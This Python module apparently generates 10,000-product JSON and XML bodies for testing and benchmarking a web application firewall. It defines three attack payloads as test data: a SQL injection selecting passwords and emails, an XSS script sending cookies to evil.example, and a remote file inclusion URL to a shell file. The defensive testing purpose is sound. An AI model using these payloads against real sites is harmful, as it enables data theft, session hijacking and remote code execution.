"""10,000-product bodies for the firewall's bulk tests and bench/waf_bulk.py (no Django needed)."""

from __future__ import annotations

import json
from typing import Any
from xml.sax.saxutils import escape

PRODUCTS = 10_000
DESCRIPTION = ("<h2>Select Drop Earrings — Union Square</h2><p>By O'Brien &amp; Co., Via dell'Unione 1.</p>"
               "<p><a href=\"https://shop.example/care\">Care</a> <img src=\"/m/e.jpg\" alt=\"e\"></p>"
               "<ul><li>Select from 3 colours; drop 4 cm</li></ul>")
PAYLOADS = {
    "sqli": ("name", "Earrings' UNION SELECT password, email FROM accounts_user--"),
    "xss": ("name", "Earrings <script>fetch('//evil.example/'+document.cookie)</script>"),
    "rfi": ("manufacturer", "http://203.0.113.66/shell.txt?"),
}


def product(i: int) -> dict[str, Any]:
    return {"sku": f"SKU-{i:05d}", "name": f"Select Drop Earrings — Union Square #{i}",
            "description_html": f"{DESCRIPTION}<p>Item {i}</p>", "short_description": "O'Brien, Via dell'Unione 1",
            "manufacturer": "D'Angelo & Sons", "ean": f"80{i:011d}",
            "images": [{"url": f"https://cdn.example/img/{i}.jpg"}],
            "prices": [{"price_list": "retail", "net": f"{i % 100}.50", "vat_rate": 22}]}


def products(attack: str | None = None, count: int = PRODUCTS) -> list[dict[str, Any]]:
    items = [product(i) for i in range(count)]
    if attack:
        field, payload = PAYLOADS[attack]
        items[-1][field] = payload  # the last of 10,000: past every old limit
    return items


def json_body(attack: str | None = None, count: int = PRODUCTS) -> bytes:
    return json.dumps({"items": products(attack, count)}).encode()


def xml_body(attack: str | None = None, count: int = PRODUCTS) -> bytes:
    names = {"sku": "Code", "name": "Title", "description_html": "DescriptionHtml",
             "short_description": "ShortDescription", "manufacturer": "Brand", "ean": "Ean"}
    rows = ["<Product>" + "".join(f"<{tag}>{escape(item[key])}</{tag}>" for key, tag in names.items())
            + f"<Qty>{n % 50}</Qty></Product>" for n, item in enumerate(products(attack, count))]
    return ('<?xml version="1.0" encoding="UTF-8"?><bindCommerceProducts Mode="full"><Products>'
            + "".join(rows) + "</Products></bindCommerceProducts>").encode()
